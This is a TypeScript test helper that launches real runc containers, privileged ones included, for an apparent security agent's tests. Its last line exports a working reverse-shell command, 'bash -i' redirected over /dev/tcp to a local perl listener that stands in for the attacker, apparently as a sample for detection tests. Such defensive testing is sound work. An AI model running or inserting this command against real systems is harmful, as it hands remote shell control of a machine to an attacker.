/**
 * Real containers for the agent tests: Debian's runc running bundles over the root filesystem
 * of fixtures/images/debian12:minbase (unpacked once with umoci), as TESTING.md describes.
 * Every container is killed and deleted in cleanup, even when a test fails.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fixture, fixturesAvailable } from '../support/fixtures.js';

/** Root and runc/umoci present; in CI their absence is an error, never a silent skip. */
export function runcAvailable(): boolean {
  const missing = ['runc', 'umoci'].filter((tool) => spawnSync('sh', ['-c', `command -v ${tool}`]).status !== 0);
  const problem = process.getuid?.() !== 0 ? 'the container tests need root' : missing.length ? `${missing.join(', ')} not installed (scripts/install-test-deps.sh installs them)` : undefined;
  if (problem && process.env.CI === 'true') throw new Error(problem);
  return !problem && fixturesAvailable();
}

/** Every capability this kernel knows (0..cap_last_cap), by name: what a privileged container gets. */
const CAP_NAMES = ['CAP_CHOWN', 'CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_FOWNER', 'CAP_FSETID', 'CAP_KILL', 'CAP_SETGID', 'CAP_SETUID', 'CAP_SETPCAP', 'CAP_LINUX_IMMUTABLE', 'CAP_NET_BIND_SERVICE', 'CAP_NET_BROADCAST', 'CAP_NET_ADMIN', 'CAP_NET_RAW', 'CAP_IPC_LOCK', 'CAP_IPC_OWNER', 'CAP_SYS_MODULE', 'CAP_SYS_RAWIO', 'CAP_SYS_CHROOT', 'CAP_SYS_PTRACE', 'CAP_SYS_PACCT', 'CAP_SYS_ADMIN', 'CAP_SYS_BOOT', 'CAP_SYS_NICE', 'CAP_SYS_RESOURCE', 'CAP_SYS_TIME', 'CAP_SYS_TTY_CONFIG', 'CAP_MKNOD', 'CAP_LEASE', 'CAP_AUDIT_WRITE', 'CAP_AUDIT_CONTROL', 'CAP_SETFCAP', 'CAP_MAC_OVERRIDE', 'CAP_MAC_ADMIN', 'CAP_SYSLOG', 'CAP_WAKE_ALARM', 'CAP_BLOCK_SUSPEND', 'CAP_AUDIT_READ', 'CAP_PERFMON', 'CAP_BPF', 'CAP_CHECKPOINT_RESTORE'];

/** The capabilities this host may grant (our bounding set): a privileged container gets all of them. */
function grantableCapabilities(): string[] {
  const bounding = BigInt(`0x${/^CapBnd:\s*([0-9a-f]+)$/m.exec(readFileSync('/proc/self/status', 'utf8'))![1]}`);
  return CAP_NAMES.filter((_, bit) => (bounding >> BigInt(bit)) & 1n);
}

export interface ContainerSpec {
  args: string[];
  privileged?: boolean;
  /** Host paths bound read-only into the container (e.g. the host's /usr for its python3). */
  binds?: { source: string; destination: string }[];
  /** Writable tmpfs mounts (the shared rootfs is read-only). */
  tmpfs?: string[];
  /**
   * The root file system as containerd gives it: an overlay with the image's rootfs as its lower
   * layer and a writable upper layer of the container's own (BUNDLE/upper), instead of the
   * shared read-only rootfs.
   */
  overlay?: boolean;
}

export interface Container {
  name: string;
  pid: number;
  log(): string;
}

export class RuncLab {
  readonly dir: string;
  readonly rootfs: string;
  private readonly names: string[] = [];

  private constructor(dir: string) {
    this.dir = dir;
    this.rootfs = path.join(dir, 'image', 'rootfs');
  }

  /** Unpacks minbase once (about 7 s here); containers share its rootfs read-only. */
  static create(): RuncLab {
    const lab = new RuncLab(mkdtempSync(path.join(os.tmpdir(), 'palisade-runc-')));
    execFileSync('umoci', ['unpack', '--image', `${fixture('images', 'debian12')}:minbase`, path.join(lab.dir, 'image')], { stdio: 'ignore', timeout: 60_000 });
    return lab;
  }

  private readonly overlays: string[] = [];

  /** Mounts BUNDLE/rootfs as an overlay of the image's rootfs under BUNDLE/upper; returns the mount point. */
  private overlayRoot(bundle: string): string {
    const [upper, work, merged] = ['upper', 'work', 'rootfs'].map((d) => path.join(bundle, d)) as [string, string, string];
    for (const d of [upper, work, merged]) mkdirSync(d, { recursive: true });
    execFileSync('mount', ['-t', 'overlay', 'overlay', '-o', `lowerdir=${this.rootfs},upperdir=${upper},workdir=${work}`, merged], { stdio: 'pipe', timeout: 10_000 });
    this.overlays.push(merged);
    return merged;
  }

  private config(spec: ContainerSpec, bundle: string): Record<string, unknown> {
    const base = JSON.parse(readFileSync(path.join(this.dir, 'image', 'config.json'), 'utf8')) as { root: unknown; process: Record<string, unknown>; linux: Record<string, unknown>; mounts: unknown[] };
    base.root = spec.overlay ? { path: this.overlayRoot(bundle), readonly: false } : { path: this.rootfs, readonly: true };
    base.process.terminal = false;
    base.process.args = spec.args;
    if (spec.privileged) {
      const caps = grantableCapabilities();
      base.process.capabilities = { bounding: caps, effective: caps, permitted: caps, inheritable: caps, ambient: caps };
      base.process.noNewPrivileges = false;
      base.linux.resources = { ...(base.linux.resources as object | undefined ?? {}), devices: [{ allow: true, access: 'rwm' }] };
    }
    for (const dir of spec.tmpfs ?? []) base.mounts.push({ destination: dir, type: 'tmpfs', source: 'tmpfs', options: ['nosuid', 'nodev', 'mode=700', 'size=1m'] });
    for (const bind of spec.binds ?? []) base.mounts.push({ destination: bind.destination, type: 'bind', source: bind.source, options: ['rbind', 'ro'] });
    return base;
  }

  /** Starts `runc run NAME` in the background and waits until the container runs. */
  async run(name: string, spec: ContainerSpec): Promise<Container> {
    const bundle = path.join(this.dir, name);
    mkdirSync(bundle, { recursive: true });
    writeFileSync(path.join(bundle, 'config.json'), JSON.stringify(this.config(spec, bundle)));
    const logFile = path.join(bundle, 'log');
    const out = openSync(logFile, 'w');
    this.names.push(name);
    const child = spawn('runc', ['run', name], { cwd: bundle, stdio: ['ignore', out, out], detached: true });
    child.unref();
    const deadline = Date.now() + 15_000;
    while (Date.now() < deadline) {
      const state = spawnSync('runc', ['state', name], { encoding: 'utf8' });
      if (state.status === 0) {
        const parsed = JSON.parse(state.stdout) as { status: string; pid: number };
        if (parsed.status === 'running' && parsed.pid) return { name, pid: parsed.pid, log: () => readFileSync(logFile, 'utf8') };
      }
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error(`container ${name} did not start: ${existsSync(logFile) ? readFileSync(logFile, 'utf8') : ''}`);
  }

  kill(name: string): void {
    spawnSync('runc', ['kill', name, 'KILL'], { stdio: 'ignore', timeout: 10_000 });
    spawnSync('runc', ['delete', '-f', name], { stdio: 'ignore', timeout: 10_000 });
  }

  /** Kills and deletes every container started here, then removes the files. */
  cleanup(): void {
    for (const name of this.names) this.kill(name);
    for (const merged of this.overlays) spawnSync('umount', ['-l', merged], { stdio: 'ignore', timeout: 10_000 });
    rmSync(this.dir, { recursive: true, force: true });
  }
}

/** Unique container names per run, so a leftover from a crashed run never collides. */
export function containerName(what: string): string {
  return `pal-${what}-${process.pid}-${Math.floor(Math.random() * 1e6)}`;
}

/** A listener in the container stands in for the attacker's machine; `bash -i` connects out to it with its stdin on the socket. */
export const REVERSE_SHELL = 'perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die; my $c = $s->accept; sleep 60;\' & sleep 0.5; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; true"';
